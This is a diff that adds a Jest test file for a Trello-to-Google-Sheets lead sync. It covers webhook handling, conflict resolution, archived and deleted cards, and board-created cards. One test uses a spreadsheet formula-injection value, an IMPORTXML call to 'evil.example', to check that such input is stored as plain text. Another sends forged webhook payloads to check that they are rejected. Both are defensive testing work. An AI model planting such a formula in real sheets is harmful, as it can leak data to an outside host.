@@ -1,0 +1,227 @@
+// Trello → Sheet on the built bundle: webhook deliveries, the scheduled pull, conflicts, archive/delete, board-made cards.
+import { sampleRows, SyncWorld } from './sync-world';
+
+/** A synced world with a registered webhook; L1 NEW, L2 CONTACTED, L3 QUALIFIED, L4 COMPLETED, L5 LOST. */
+function syncedWorld(options: { webhook?: boolean } = {}): SyncWorld {
+  const world = new SyncWorld({ rows: sampleRows(5), webApp: true });
+  world.run('installTriggers');
+  if (options.webhook !== false) expect(world.registerWebhook()).toMatchObject({ ok: true });
+  world.run('syncNow');
+  world.deliver(); // the echoes of the first sync
+  return world;
+}
+
+describe('webhook deliveries', () => {
+  it('moves the status with the card, keeping QUALIFIED and LOST where they still fit', () => {
+    const world = syncedWorld();
+    world.person.moves(world.cardOf('L1')!.id, 'IN_PROGRESS');
+    world.person.moves(world.cardOf('L3')!.id, 'DONE');
+    world.person.renames(world.cardOf('L5')!.id, 'Lead 5 (lost to a rival)');
+    const runs = world.deliver();
+    expect(runs.map((run) => [run.functionName, run.error])).toEqual(Array(3).fill(['doPost', undefined]));
+    expect(world.lead('L1')?.status).toBe('CONTACTED');
+    expect(world.lead('L3')?.status).toBe('COMPLETED');
+    expect(world.lead('L5')).toMatchObject({ status: 'LOST', name: 'Lead 5 (lost to a rival)' });
+    world.person.moves(world.cardOf('L2')!.id, 'IN_PROGRESS'); // moved within its own list's column: CONTACTED stays
+    world.deliver();
+    expect(world.lead('L2')?.status).toBe('CONTACTED');
+  });
+
+  it('costs at most 4 Sheets calls and 2 Trello requests per delivery', () => {
+    const world = syncedWorld();
+    world.person.moves(world.cardOf('L4')!.id, 'TODO');
+    const before = world.trello.requests.length;
+    const [run] = world.deliver();
+    expect(world.lead('L4')?.status).toBe('NEW');
+    expect(run.counters.sheetsDataCalls).toBeLessThanOrEqual(4);
+    expect(world.trello.requests.length - before).toBeLessThanOrEqual(2);
+  });
+
+  it('keeps the row of an archived or deleted card, marks it, creates nothing, and syncs an unarchived card again', () => {
+    const world = syncedWorld();
+    const archived = world.cardOf('L1')!.id;
+    world.person.archives(archived);
+    world.person.deletes(world.cardOf('L2')!.id);
+    world.deliver();
+    world.run('syncNow');
+    expect(world.lead('L1')).toMatchObject({ status: 'NEW', trello_card_id: archived });
+    expect(world.leads.cell(2, 6).note).toContain('archived');
+    expect(world.leads.cell(3, 6).note).toContain('deleted');
+    expect(world.cards('all')).toHaveLength(4);
+    world.person.unarchives(archived);
+    world.person.moves(archived, 'DONE');
+    world.deliver();
+    world.run('syncNow');
+    expect(world.lead('L1')?.status).toBe('COMPLETED');
+    expect(world.leads.cell(2, 6).note).toBe('');
+  });
+
+  it('creates a fresh card when the user clears the id of a row whose card was deleted', () => {
+    const world = syncedWorld();
+    world.person.deletes(world.cardOf('L2')!.id);
+    world.deliver();
+    world.leads.typeAsUser(3, 6, [['']]);
+    world.run('syncNow');
+    expect(world.cardOf('L2')?.name).toBe('Lead 2');
+    expect(world.cards()).toHaveLength(5);
+  });
+
+  it('adds a card created on a mapped list as a new lead, as plain text, and marks the card', () => {
+    const world = syncedWorld();
+    const card = world.person.creates('IN_PROGRESS', '=IMPORTXML("https://evil.example","//a")');
+    world.person.creates('TODO', '+1 555 0100');
+    world.deliver();
+    const [header, ...rows] = world.sheetValues();
+    expect(header).toHaveLength(6);
+    const imported = rows.find((row) => row[5] === card.id);
+    expect(imported).toEqual([expect.stringMatching(/^TRELLO-/), '=IMPORTXML("https://evil.example","//a")', '', 'CONTACTED', 'Trello', card.id]);
+    const row = rows.indexOf(imported!) + 2;
+    expect(world.leads.cell(row, 2).formula).toBe('');
+    expect(rows.some((cells) => cells[1] === '+1 555 0100')).toBe(true);
+    expect(world.trello.card(card.id)?.desc).toContain(`Lead ID: ${String(imported![0])}`);
+    world.run('syncNow');
+    expect(world.sheetValues()).toHaveLength(8);
+    expect(world.cards()).toHaveLength(7);
+  });
+
+  it('ignores a missing or wrong secret, another board, a forged payload and malformed bodies, always answering', () => {
+    const world = syncedWorld();
+    const secret = world.settingsStore().get('WEBHOOK_SECRET')!;
+    const cardId = world.cardOf('L1')!.id;
+    const move = {
+      model: { id: world.workspace.board.id },
+      action: { id: '6a0000000000000000000001', type: 'updateCard', date: new Date(world.clock.now()).toISOString(), data: { card: { id: cardId, name: 'Lead 1' }, listAfter: { id: world.listId('DONE') }, old: { idList: world.listId('TODO') } } },
+    };
+    const post = (query: string, body: string) => world.gas.webApp.handle({ method: 'POST', url: `${'https://script.google.com/macros/s/AKfycbEmulated/exec'}${query}`, headers: { 'content-type': 'application/json' }, body });
+    const before = world.trello.requests.length;
+    for (const [query, body] of [
+      ['', JSON.stringify(move)],
+      ['?secret=wrong', JSON.stringify(move)],
+      [`?secret=${secret}`, JSON.stringify({ ...move, model: { id: '6a00000000000000000000ff' } })],
+      [`?secret=${secret}`, ''],
+      [`?secret=${secret}`, '{"action":'],
+      [`?secret=${secret}`, '[1,2,3]'],
+      [`?secret=${secret}`, JSON.stringify({ model: { id: world.workspace.board.id }, action: { id: 42, type: ['x'] } })],
+      [`?secret=${secret}`, 'x'.repeat(300_000)],
+    ]) {
+      expect(post(query, body).status).toBe(302);
+      expect(world.gas.executions.at(-1)?.error).toBeUndefined();
+    }
+    expect(world.trello.requests.length).toBe(before);
+    // Forged: the right secret and board, but the card did not move. The card is read again and nothing changes.
+    expect(post(`?secret=${secret}`, JSON.stringify(move)).status).toBe(302);
+    expect(world.lead('L1')?.status).toBe('NEW');
+    expect(world.trello.requests.length).toBe(before + 1);
+  });
+
+  it('applies a delivery once, however often Trello resends it after the 302', () => {
+    const world = syncedWorld();
+    world.person.moves(world.cardOf('L1')!.id, 'DONE');
+    const first = world.deliver();
+    expect(first).toHaveLength(1);
+    const requestsAfterFirst = world.trello.requests.length;
+    world.clock.advance(31_000);
+    const resent = world.deliver();
+    expect(resent.length).toBeGreaterThanOrEqual(1); // Trello retries: a 302 is not a 2xx
+    expect(world.trello.requests.length).toBe(requestsAfterFirst);
+    expect(world.lead('L1')?.status).toBe('COMPLETED');
+  });
+
+  it('recognises the echo of its own move without reading the card again', () => {
+    const world = syncedWorld();
+    world.leads.typeAsUser(2, 4, [['LOST']]);
+    world.run('syncNow');
+    const before = world.trello.requests.length;
+    const echoes = world.deliver();
+    expect(echoes).toHaveLength(1);
+    expect(world.trello.requests.length).toBe(before);
+    expect(world.lead('L1')?.status).toBe('LOST');
+  });
+
+  it('stores a delivery that finds the lock busy and applies it at the next run', () => {
+    const world = syncedWorld();
+    world.person.moves(world.cardOf('L2')!.id, 'TODO');
+    const release = world.gas.holdScriptLock();
+    const [queued] = world.deliver();
+    expect(queued.error).toBeUndefined();
+    expect(world.lead('L2')?.status).toBe('CONTACTED');
+    const health = world.run<{ getContent(): string }>('doGet', { parameter: {} }, { hasUi: false }).returnValue;
+    expect(JSON.parse(health!.getContent())).toMatchObject({ queued: { webhookDeliveries: 1 } });
+    release();
+    world.gas.userEdit('LeadTracker', 'B6', [['Lead 5 renamed']]); // the next run is an edit trigger's
+    expect(world.lead('L2')?.status).toBe('NEW');
+  });
+});
+
+describe('without a webhook', () => {
+  it('the scheduled run pulls moves, renames and new cards from the board', () => {
+    const world = syncedWorld({ webhook: false });
+    world.person.moves(world.cardOf('L1')!.id, 'DONE');
+    world.person.renames(world.cardOf('L2')!.id, 'Lead 2 (big)');
+    world.person.creates('TODO', 'Walk-in');
+    world.gas.advanceTime(60_000);
+    expect(world.lead('L1')?.status).toBe('COMPLETED');
+    expect(world.lead('L2')?.name).toBe('Lead 2 (big)');
+    expect(world.sheetValues().some((row) => row[1] === 'Walk-in')).toBe(true);
+  });
+});
+
+describe('conflicts', () => {
+  it('lets the newer change win: a later board move beats an earlier sheet edit', () => {
+    const world = syncedWorld({ webhook: false });
+    const release = world.gas.holdScriptLock(); // the edit cannot sync at once: its time is recorded
+    world.gas.userEdit('LeadTracker', 'D2', [['CONTACTED']]);
+    release();
+    world.clock.advance(5_000);
+    world.person.moves(world.cardOf('L1')!.id, 'DONE');
+    world.run('syncNow');
+    expect(world.lead('L1')?.status).toBe('COMPLETED');
+    expect(world.listNameOf(world.cardOf('L1'))).toBe('DONE');
+    const log = world.spreadsheet.sheet('Sync Log')!.values();
+    expect(log.some((line) => line[1] === 'conflict' && line[2] === 'L1')).toBe(true);
+  });
+
+  it('lets the newer change win: a later sheet edit beats an earlier board move', () => {
+    const world = syncedWorld({ webhook: false });
+    world.person.moves(world.cardOf('L1')!.id, 'DONE');
+    world.clock.advance(5_000);
+    const release = world.gas.holdScriptLock();
+    world.gas.userEdit('LeadTracker', 'D2', [['CONTACTED']]);
+    release();
+    world.run('syncNow');
+    expect(world.lead('L1')?.status).toBe('CONTACTED');
+    expect(world.listNameOf(world.cardOf('L1'))).toBe('IN_PROGRESS');
+  });
+
+  it('lets the sheet win when its edit time is unknown (a script or formula changed it)', () => {
+    const world = syncedWorld({ webhook: false });
+    world.person.moves(world.cardOf('L1')!.id, 'DONE');
+    world.clock.advance(5_000);
+    world.leads.typeAsUser(2, 4, [['CONTACTED']]); // no trigger
+    world.run('syncNow');
+    expect(world.listNameOf(world.cardOf('L1'))).toBe('IN_PROGRESS');
+  });
+});
+
+describe('deleted rows', () => {
+  it('leaves the card of a deleted row on the board, logs it, and never imports it again', () => {
+    const world = syncedWorld({ webhook: false });
+    const cardId = world.cardOf('L3')!.id;
+    world.leads.deleteRowsAsUser(4, 1);
+    world.run('syncNow');
+    world.run('syncNow');
+    expect(world.trello.card(cardId)?.closed).toBe(false);
+    expect(world.sheetValues()).toHaveLength(5);
+    const log = world.spreadsheet.sheet('Sync Log')!.values();
+    expect(log.filter((line) => line[2] === 'L3' && String(line[3]).includes('deleted'))).toHaveLength(1);
+  });
+
+  it('archives the card instead when that setting is on', () => {
+    const world = syncedWorld({ webhook: false });
+    world.settingsStore().set('ARCHIVE_CARD_ON_ROW_DELETE', 'true');
+    const cardId = world.cardOf('L3')!.id;
+    world.leads.deleteRowsAsUser(4, 1);
+    world.run('syncNow');
+    expect(world.trello.card(cardId)?.closed).toBe(true);
+  });
+});
